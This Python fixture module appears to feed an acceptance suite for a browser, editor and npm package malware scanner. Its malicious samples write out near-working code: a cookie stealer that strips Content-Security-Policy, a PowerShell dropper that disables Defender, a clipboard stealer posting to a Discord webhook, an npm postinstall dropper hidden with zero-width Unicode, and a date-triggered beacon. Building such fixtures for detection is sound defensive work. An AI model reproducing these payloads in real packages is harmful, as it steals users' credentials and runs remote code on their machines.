"""Synthetic fixture corpus: archive builders plus the malicious/benign
sample set the acceptance suite runs against.

Archives are built deterministically (fixed timestamps) so identical
inputs always produce identical bytes.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import struct
import tarfile
import zipfile
from dataclasses import dataclass, field

# ---- deterministic archive builders -----------------------------------------


def make_zip(files: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for path in sorted(files):
            data = files[path]
            if isinstance(data, str):
                data = data.encode("utf-8")
            info = zipfile.ZipInfo(path, date_time=(2024, 1, 1, 0, 0, 0))
            zf.writestr(info, data)
    return buf.getvalue()


def make_crx3(files: dict[str, bytes | str], header: bytes = b"\x0a\x04sig!") -> bytes:
    payload = make_zip(files)
    return b"Cr24" + struct.pack("<II", 3, len(header)) + header + payload


def make_vsix(files: dict[str, bytes | str]) -> bytes:
    wrapped = {"extension.vsixmanifest": VSIX_MANIFEST_XML}
    for path, data in files.items():
        wrapped[f"extension/{path}"] = data
    return make_zip(wrapped)


def make_tgz(files: dict[str, bytes | str]) -> bytes:
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for path in sorted(files):
            data = files[path]
            if isinstance(data, str):
                data = data.encode("utf-8")
            info = tarfile.TarInfo(name=f"package/{path}")
            info.size = len(data)
            info.mtime = 0
            tf.addfile(info, io.BytesIO(data))
    out = io.BytesIO()
    with gzip.GzipFile(fileobj=out, mode="wb", mtime=0) as gz:
        gz.write(tar_buf.getvalue())
    return out.getvalue()


VSIX_MANIFEST_XML = """<?xml version="1.0" encoding="utf-8"?>
<PackageManifest Version="2.0.0">
  <Metadata>
    <Identity Language="en-US" Id="fixture" Version="1.0.0" Publisher="fixture" />
  </Metadata>
</PackageManifest>
"""


# ---- fixture definitions ------------------------------------------------------

JUNE_1_2025_MS = 1748736000000
JUNE_2_2025_MS = 1748822400000


@dataclass
class Fixture:
    name: str
    kind: str
    hint: str
    data: bytes
    expect_verdict: str
    expect_rule_ids: list[str] = field(default_factory=list)
    scenario: dict = field(default_factory=dict)


def cookie_stealer_crx() -> Fixture:
    """Browser-extension supply-chain case: facebook-gated cookie theft
    posted to a lookalike domain, plus CSP-stripping network rules."""
    manifest = {
        "manifest_version": 3,
        "name": "Data Loss Shield",
        "version": "24.10.4",
        "description": "Protects your browsing sessions.",
        "permissions": ["cookies", "storage", "declarativeNetRequest"],
        "host_permissions": ["<all_urls>"],
        "background": {"service_worker": "worker.js"},
        "content_scripts": [
            {"matches": ["*://*.facebook.com/*"], "js": ["content.js"]}
        ],
    }
    worker = """
const ENDPOINT = "https://cyberhavenext.pro/api/telemetry";

chrome.declarativeNetRequest.updateDynamicRules({
  addRules: [{
    id: 1,
    action: {
      type: "modifyHeaders",
      responseHeaders: [{header: "Content-Security-Policy", operation: "remove"}]
    },
    condition: {urlFilter: "*"}
  }]
});

chrome.runtime.onMessage.addListener((msg) => {
  if (!msg || msg.kind !== "harvest") return;
  if (msg.host.indexOf("facebook.com") === -1) return;
  chrome.cookies.getAll({domain: "facebook.com"}, (cookies) => {
    const body = JSON.stringify({host: msg.host, page: msg.page, jar: cookies});
    const xhr = new XMLHttpRequest();
    xhr.open("POST", ENDPOINT);
    xhr.send(body);
  });
});
"""
    content = """
chrome.runtime.sendMessage({
  kind: "harvest",
  host: location.hostname,
  page: document.cookie
});
"""
    privacy = (
        "Data Loss Shield respects you. We never collect personal data or "
        "browsing history. Settings stay on your device."
    )
    return Fixture(
        name="cookie-stealer",
        kind="chrome-extension",
        hint="data-loss-shield.crx",
        data=make_crx3(
            {
                "manifest.json": json.dumps(manifest),
                "worker.js": worker,
                "content.js": content,
                "PRIVACY.md": privacy,
            }
        ),
        expect_verdict="High",
        expect_rule_ids=[
            "url-exfil-indicator",
            "cookies-api-plus-network",
            "csp-strip",
            "network-exfil",
            "cookie-exfiltration",
            "policy-contradiction",
        ],
    )


def _payload_base64(size: int = 120 * 1024) -> str:
    block = bytes(range(256)) * (size // 256 + 1)
    return base64.b64encode(block[:size]).decode("ascii")


def vsix_miner_dropper() -> Fixture:
    """Editor-extension case: downloads a PowerShell script, executes it,
    then installs the extension it impersonates."""
    package = {
        "name": "prettier-plus",
        "displayName": "Prettier Plus",
        "version": "9.9.1",
        "publisher": "prettier-dev-tools",
        "description": "Code formatter with extras.",
        "engines": {"vscode": "^1.80.0"},
        "activationEvents": ["*"],
        "main": "./extension.js",
        "contributes": {"commands": [{"command": "prettierPlus.format"}]},
    }
    extension = f"""
const vscode = require('vscode');
const cp = require('child_process');
const https = require('https');
const fs = require('fs');
const os = require('os');

const STAGE2 = "{_payload_base64()}";

function activate(context) {{
  https.get('https://asdf11.xyz/install.ps1', (res) => {{
    let script = '';
    res.on('data', (d) => {{ script += d; }});
    res.on('end', () => {{
      const dropPath = os.tmpdir() + '/vscode-update.ps1';
      fs.writeFileSync(dropPath, script + '\\n' + STAGE2.slice(0, 64));
      cp.exec('powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -File ' + dropPath, () => {{
        vscode.commands.executeCommand('workbench.extensions.installExtension', 'esbenp.prettier-vscode');
      }});
    }});
  }});
}}

exports.activate = activate;
"""
    return Fixture(
        name="vsix-miner",
        kind="vscode-extension",
        hint="prettier-plus.vsix",
        data=make_vsix(
            {"package.json": json.dumps(package), "extension.js": extension}
        ),
        expect_verdict="High",
        expect_rule_ids=[
            "child-process-exec",
            "vscode-install-extension",
            "base64-blob",
            "suspicious-url",
            "process-exec",
            "install-extension-event",
            "network-unknown",
        ],
        scenario={
            "stubResponses": {
                "https://asdf11.xyz/*": {
                    "status": 200,
                    "body": "Set-MpPreference -DisableRealtimeMonitoring $true",
                }
            }
        },
    )


def vsix_clipboard_stealer() -> Fixture:
    """Info-stealer case: polls the clipboard and posts captured text to a
    chat-platform webhook."""
    package = {
        "name": "clipboard-helper",
        "displayName": "Clipboard Helper",
        "version": "1.0.3",
        "publisher": "devtools-hub",
        "description": "Clipboard history for your editor.",
        "engines": {"vscode": "^1.80.0"},
        "activationEvents": ["*"],
        "main": "./extension.js",
    }
    extension = """
const vscode = require('vscode');

const HOOK = 'https://discord.com/api/webhooks/1326186979325952/AbCdEfGhIjKlMnOpQrStUvWx';
let lastSeen = '';

function activate(context) {
  setInterval(() => {
    vscode.env.clipboard.readText().then((text) => {
      if (text && text !== lastSeen) {
        lastSeen = text;
        fetch(HOOK, {
          method: 'POST',
          headers: {'Content-Type': 'application/json'},
          body: JSON.stringify({content: text, user: 'clip'})
        });
      }
    });
  }, 5000);
}

exports.activate = activate;
"""
    return Fixture(
        name="clipboard-stealer",
        kind="vscode-extension",
        hint="clipboard-helper.vsix",
        data=make_vsix(
            {"package.json": json.dumps(package), "extension.js": extension}
        ),
        expect_verdict="High",
        expect_rule_ids=[
            "discord-webhook-url",
            "network-exfil",
        ],
        scenario={"maxTasks": 50},
    )


def npm_unicode_dropper() -> Fixture:
    """NPM case: zero-width obfuscation, a postinstall fetch disguised as a
    calendar URL, and an attempted payload execution."""
    package = {
        "name": "os-info-utils",
        "version": "1.2.1",
        "description": "Cross-platform host information helpers.",
        "main": "index.js",
        "scripts": {"postinstall": "node setup.js"},
    }
    # U+200C inside the identifier and a raw U+200B inside the marker string
    # keep the file valid JS while hiding the tokens from review.
    setup = (
        "const os = require('os');\n"
        "const https = require('https');\n"
        "const fs = require('fs');\n"
        "const cp = require('child_process');\n"
        "\n"
        "const ca‌lendar = 'https://calendar.google.com/calendar/ical/"
        "c2VjcmV0LWZlZWQ/private.ics';\n"
        "const marker = 'sync​token​v2';\n"
        "\n"
        "if (os.platform() === 'win32') {\n"
        "  https.get(ca‌lendar, (res) => {\n"
        "    let body = '';\n"
        "    res.on('data', (d) => { body += d; });\n"
        "    res.on('end', () => {\n"
        "      const target = os.tmpdir() + '/payload.exe';\n"
        "      fs.writeFileSync(target, Buffer.from(body, 'base64'));\n"
        "      cp.exec(target + ' /S ' + marker);\n"
        "    });\n"
        "  });\n"
        "}\n"
    )
    index = "module.exports.platform = () => require('os').platform();\n"
    return Fixture(
        name="npm-dropper",
        kind="npm-package",
        hint="os-info-utils-1.2.1.tgz",
        data=make_tgz(
            {
                "package.json": json.dumps(package),
                "setup.js": setup,
                "index.js": index,
            }
        ),
        expect_verdict="High",
        expect_rule_ids=[
            "invisible-unicode",
            "suspicious-url",
            "process-exec",
            "network-unknown",
        ],
        scenario={
            "stubResponses": {
                "https://calendar.google.com/*": {"status": 200, "body": "TVqQAA=="}
            }
        },
    )


def benign_analytics_extension() -> Fixture:
    """Benign extension whose only network call is an analytics beacon to a
    well-known host."""
    manifest = {
        "manifest_version": 3,
        "name": "Reading Timer",
        "version": "2.1.0",
        "description": "Tracks how long you read articles.",
        "permissions": ["storage"],
        "background": {"service_worker": "bg.js"},
    }
    bg = """
function reportUsage() {
  fetch('https://www.google-analytics.com/collect?v=1&tid=UA-100-1&cid=42&t=event&ec=session&ea=start');
}

chrome.storage.local.get(['totalMinutes'], (entries) => {
  const total = (entries && entries.totalMinutes) || 0;
  chrome.storage.local.set({totalMinutes: total});
  reportUsage();
});
"""
    return Fixture(
        name="benign-analytics",
        kind="chrome-extension",
        hint="reading-timer.crx",
        data=make_crx3({"manifest.json": json.dumps(manifest), "bg.js": bg}),
        expect_verdict="Low",
    )


def benign_styler_extension() -> Fixture:
    manifest = {
        "manifest_version": 3,
        "name": "Calm Pages",
        "version": "1.4.2",
        "description": "Applies a soft color theme to example.com.",
        "permissions": ["storage"],
        "content_scripts": [
            {"matches": ["*://*.example.com/*"], "js": ["style.js"]}
        ],
    }
    style = """
const theme = {background: '#fdf6e3', text: '#586e75'};
document.addEventListener('DOMContentLoaded', () => {});
const panel = document.createElement('div');
panel.setAttribute('data-theme', JSON.stringify(theme));
document.body.appendChild(panel);
"""
    privacy = "Calm Pages stores your theme locally. We use analytics."
    return Fixture(
        name="benign-styler",
        kind="chrome-extension",
        hint="calm-pages.zip",
        data=make_zip(
            {
                "manifest.json": json.dumps(manifest),
                "style.js": style,
                "PRIVACY.md": privacy,
            }
        ),
        expect_verdict="Low",
        scenario={
            "navigations": [{"url": "https://www.example.com/articles", "atVirtualTimeMs": 500}]
        },
    )


def benign_vsix_wordcount() -> Fixture:
    package = {
        "name": "word-counter",
        "displayName": "Word Counter",
        "version": "3.0.0",
        "publisher": "docs-tools",
        "description": "Counts words in the active document.",
        "engines": {"vscode": "^1.80.0"},
        "activationEvents": ["onCommand:wordCounter.count"],
        "main": "./out/extension.js",
        "contributes": {"commands": [{"command": "wordCounter.count", "title": "Count Words"}]},
    }
    extension = """
const vscode = require('vscode');

function countWords(text) {
  return text.split(/\\s+/).filter(Boolean).length;
}

function activate(context) {
  const command = vscode.commands.registerCommand('wordCounter.count', () => {
    vscode.window.showInformationMessage('Words: ' + countWords(''));
  });
  context.subscriptions.push(command);
}

exports.activate = activate;
exports.countWords = countWords;
"""
    return Fixture(
        name="benign-wordcount",
        kind="vscode-extension",
        hint="word-counter.vsix",
        data=make_vsix(
            {"package.json": json.dumps(package), "out/extension.js": extension}
        ),
        expect_verdict="Low",
    )


def benign_npm_util() -> Fixture:
    package = {
        "name": "tiny-slugify",
        "version": "0.3.0",
        "description": "Minimal slug generator.",
        "main": "index.js",
    }
    index = """
function slugify(text) {
  return String(text)
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, '-')
    .replace(/^-+|-+$/g, '');
}

module.exports = {slugify};
"""
    readme = "# tiny-slugify\nTurns titles into url slugs."
    return Fixture(
        name="benign-npm",
        kind="npm-package",
        hint="tiny-slugify-0.3.0.tgz",
        data=make_tgz(
            {
                "package.json": json.dumps(package),
                "index.js": index,
                "README.md": readme,
            }
        ),
        expect_verdict="Low",
    )


# ---- time-machine fixtures ------------------------------------------------------


def timer_24h_extension() -> Fixture:
    manifest = {
        "manifest_version": 3,
        "name": "Day Timer",
        "version": "1.0.0",
        "background": {"service_worker": "bg.js"},
    }
    bg = """
setTimeout(() => {
  console.log('one day elapsed at ' + Date.now());
}, 86400000);
"""
    return Fixture(
        name="timer-24h",
        kind="chrome-extension",
        hint="day-timer.zip",
        data=make_zip({"manifest.json": json.dumps(manifest), "bg.js": bg}),
        expect_verdict="Low",
        scenario={"navigations": []},
    )


def timer_chain_extension() -> Fixture:
    """Sixty one-minute timers chained to wait an hour."""
    manifest = {
        "manifest_version": 3,
        "name": "Chain Timer",
        "version": "1.0.0",
        "background": {"service_worker": "bg.js"},
    }
    bg = """
let hops = 0;
function hop() {
  hops += 1;
  if (hops < 60) {
    setTimeout(hop, 60000);
  } else {
    console.log('hour reached at ' + Date.now());
  }
}
setTimeout(hop, 60000);
"""
    return Fixture(
        name="timer-chain",
        kind="chrome-extension",
        hint="chain-timer.zip",
        data=make_zip({"manifest.json": json.dumps(manifest), "bg.js": bg}),
        expect_verdict="Low",
        scenario={"navigations": []},
    )


def logic_bomb_extension() -> Fixture:
    """Payload gated on the clock passing June 1, 2025."""
    manifest = {
        "manifest_version": 3,
        "name": "Season Greeter",
        "version": "1.1.0",
        "background": {"service_worker": "bg.js"},
    }
    bg = f"""
const DETONATE_AFTER = {JUNE_1_2025_MS}; // June 1, 2025 00:00 UTC
let armed = true;
setInterval(() => {{
  if (armed && Date.now() > DETONATE_AFTER) {{
    armed = false;
    fetch('https://asdf11.xyz/beacon', {{method: 'POST', body: 'detonated'}});
  }}
}}, 3600000);
"""
    return Fixture(
        name="logic-bomb",
        kind="chrome-extension",
        hint="season-greeter.zip",
        data=make_zip({"manifest.json": json.dumps(manifest), "bg.js": bg}),
        expect_verdict="Medium",
        expect_rule_ids=["date-threshold-compare"],
        scenario={"navigations": [], "maxTasks": 3000},
    )


MALICIOUS = (
    cookie_stealer_crx,
    vsix_miner_dropper,
    vsix_clipboard_stealer,
    npm_unicode_dropper,
)

BENIGN = (
    benign_analytics_extension,
    benign_styler_extension,
    benign_vsix_wordcount,
    benign_npm_util,
)

ALL_FIXTURES = MALICIOUS + BENIGN + (
    timer_24h_extension,
    timer_chain_extension,
    logic_bomb_extension,
)


def by_name(name: str) -> Fixture:
    for factory in ALL_FIXTURES:
        fixture = factory()
        if fixture.name == name:
            return fixture
    raise KeyError(name)


if __name__ == "__main__":
    import sys

    if len(sys.argv) != 3:
        names = ", ".join(f().name for f in ALL_FIXTURES)
        print(f"usage: corpus.py <name> <out-file>\nfixtures: {names}")
        raise SystemExit(2)
    fixture = by_name(sys.argv[1])
    with open(sys.argv[2], "wb") as fh:
        fh.write(fixture.data)
    print(f"wrote {fixture.name} ({len(fixture.data)} bytes) to {sys.argv[2]}")
